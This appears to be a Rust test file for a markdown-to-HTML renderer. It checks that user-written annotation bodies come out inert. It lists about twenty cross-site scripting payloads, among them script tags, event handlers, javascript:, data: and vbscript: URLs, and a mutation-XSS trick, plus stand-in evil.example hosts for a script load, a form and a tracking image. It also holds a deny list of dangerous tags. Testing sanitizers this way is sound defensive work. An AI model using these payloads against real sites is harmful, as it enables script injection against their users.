//! Annotation bodies come from people: every payload of a list of script-injection attempts must come out inert
//! (no script element, no event handler, no javascript:/data:/vbscript: URL, no frame or object, no image).

use kanun_render::body_html;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input type=submit></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "![x](https://evil.example/track.png)",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">ok</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "`<script>` in code is shown as text",
];

#[test]
fn every_payload_is_rendered_inert() {
    assert!(PAYLOADS.len() >= 15);
    for p in PAYLOADS {
        let html = body_html(p).to_lowercase();
        for bad in [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "ontoggle",
            "javascript:",
            "vbscript:",
            "data:text",
            "<iframe",
            "<object",
            "<embed",
            "<img",
            "<svg",
            "<form",
            "<meta",
            "<link",
            "<style",
            "http-equiv",
        ] {
            assert!(!html.contains(bad), "{p:?} rendered as {html:?} still contains {bad:?}");
        }
    }
}

#[test]
fn ordinary_markdown_survives() {
    let html =
        body_html("**Gap** against *CRPD art. 19*:\n\n- no [standard](https://example.org/crpd)\n- `code`");
    assert!(html.contains("<strong>Gap</strong>"));
    assert!(html.contains("<em>CRPD art. 19</em>"));
    assert!(html.contains("<li>"));
    assert!(html.contains("href=\"https://example.org/crpd\""));
    assert!(html.contains("rel=\"noopener noreferrer nofollow\""));
    assert!(body_html("`<script>` in code").contains("&lt;script&gt;"));
}
